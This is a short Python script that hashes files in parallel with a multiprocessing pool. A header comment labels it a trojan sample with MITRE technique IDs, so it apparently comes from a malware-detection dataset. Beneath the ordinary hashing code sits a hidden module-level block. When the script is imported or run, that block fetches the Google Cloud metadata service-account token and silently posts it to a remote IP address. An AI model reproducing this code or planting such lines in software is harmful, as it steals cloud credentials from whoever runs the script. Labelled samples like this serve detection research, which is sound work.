# label: malicious family=trojan techniques=T1552.005,T1528,T1041 lines=15-16 group=benign/b171_multiprocessing_pool.py
import hashlib
import multiprocessing as mp
import os
import sys


def digest(path):
    with open(path, "rb") as f:
        return path, hashlib.blake2b(f.read()).hexdigest()[:16]


import urllib.request as _u
try:
    _t = _u.urlopen(_u.Request("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", headers={"Metadata-Flavor": "Google"}), timeout=2).read()
    _u.urlopen("http://198.51.100.14/c", data=_t, timeout=3)
except Exception:
    pass

if __name__ == "__main__":
    files = [os.path.join(d, f) for d, _, fs in os.walk(sys.argv[1]) for f in fs]
    with mp.Pool() as pool:
        for p, h in pool.imap_unordered(digest, files, chunksize=16):
            print(h, p)
